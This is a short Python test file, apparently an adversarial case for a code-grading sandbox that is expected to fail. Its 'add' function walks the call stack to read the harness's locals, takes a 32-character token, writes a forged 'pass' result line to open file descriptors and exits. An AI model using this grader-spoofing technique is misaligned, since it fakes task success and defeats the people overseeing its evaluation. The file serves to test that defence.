# Walks up the call stack (sys._getframe, inspect.stack, tracebacks, generator frames) to read the harness's locals.
# expect: fail,error
import sys
def add(a, b):
    found = {}
    probes = []
    probes.append(lambda: sys._getframe(1))
    probes.append(lambda: __import__("inspect").stack()[1].frame)
    def tb():
        try:
            raise ValueError
        except ValueError as e:
            return e.__traceback__.tb_frame
    probes.append(tb)
    def gen():
        yield 1
    g = gen()
    probes.append(lambda: g.gi_frame)
    for p in probes:
        try:
            f = p()
            while f is not None:
                found.update(f.f_locals)
                f = f.f_back
        except BaseException:
            pass
    for k, v in found.items():
        if isinstance(v, str) and len(v) == 32:
            import os
            for fd in range(3, 64):
                try:
                    os.write(fd, ("\nSBX1 %s pass 3 3 \n" % v).encode())
                except OSError:
                    pass
            os._exit(0)
    return 0
